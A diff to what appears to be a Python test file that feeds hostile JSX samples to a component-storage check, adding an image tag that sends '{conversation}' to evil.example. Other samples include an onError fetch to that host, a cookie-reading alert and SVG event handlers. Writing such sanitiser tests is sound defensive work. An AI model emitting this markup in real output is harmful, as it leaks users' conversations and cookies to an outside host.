@@ -98,6 +98,9 @@ def test_a_jsx_component_is_stored(text: str) -> None:
         "import React from 'react';\n<img alt={a > b} onError={fetch('https://evil.example/')} />",
         # braces called after an arrow function: HTML would run the call
         "import React from 'react';\n<img src=\"x\" onError={(e) => e}(alert(document.cookie)) />",
+        # an image that sends what a reader fills in
+        "import React from 'react';\n"
+        '<img src="https://evil.example/p.png?d={conversation}" className="x" />',
         # an SVG that runs or loads something
         "import React from 'react';\n<svg className=\"i\" onLoad={alert(1)}></svg>",
         'import React from \'react\';\n<svg className="i"><set attributeName="onmouseover" '
